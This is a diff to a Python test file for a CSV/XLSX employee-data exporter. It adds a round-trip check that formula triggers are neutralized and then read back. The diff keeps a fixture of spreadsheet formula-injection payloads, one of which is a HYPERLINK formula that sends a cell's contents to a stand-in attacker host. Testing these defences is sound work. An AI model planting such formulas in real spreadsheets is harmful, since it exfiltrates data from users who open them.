@@ -17,7 +17,7 @@ from hub.core.crypto import KeyRing
 from hub.core.delivery import DeliveryRunner, Outbox, attach_routes
 from hub.core.models import Compensation, Employee, Money, Offer, Ref
 from hub.core.store import Store
-from plugins.files.import_target import neutralize
+from plugins.files.import_target import neutralize, unneutralize
 
 HOSTILE = {  # leading tab and CR are stripped by the canonical model; the unit tests below cover them
     "E1": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
@@ -69,9 +69,9 @@ def test_formula_triggers_are_neutralized_in_spreadsheets(tmp_path, fmt):
         rows = [dict(zip(values[0], row)) for row in values[1:]]
         assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value)
     by_number = {row["工号"]: row for row in rows}
-    for number, text in HOSTILE.items():
-        written = text.replace("\0", "\ufffd") if fmt == "xlsx" else text  # XML 1.0 cannot hold NUL
-        assert by_number[number]["职位"] == "'" + written
+    for number, text in HOSTILE.items():  # CSV: quoted; XLSX: a text cell, as it is (XML 1.0 holds no NUL)
+        written = text.replace("\0", "\ufffd") if fmt == "xlsx" else "'" + text
+        assert by_number[number]["职位"] == written
     assert (by_number["E8"]["职位"], by_number["E8"]["姓名"], by_number["E1"]["基本工资"]) == ("工程师", "李娜", "18000.00")
     assert by_number["E1"]["计薪周期"] == "monthly" and by_number["E1"]["hub_delivery_key"].startswith("hub-new-employees")
     store.close()
@@ -99,7 +99,8 @@ def test_every_trigger_gets_a_quote(text):
 
 
 @given(st.text(max_size=20))
-def test_neutralized_text_never_starts_with_a_trigger(text):
+def test_neutralized_text_never_starts_with_a_trigger_and_reads_back_as_it_was(text):
     cell = neutralize(text)
     assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0"))
     assert cell in (text, "'" + text)
+    assert unneutralize(cell) == text
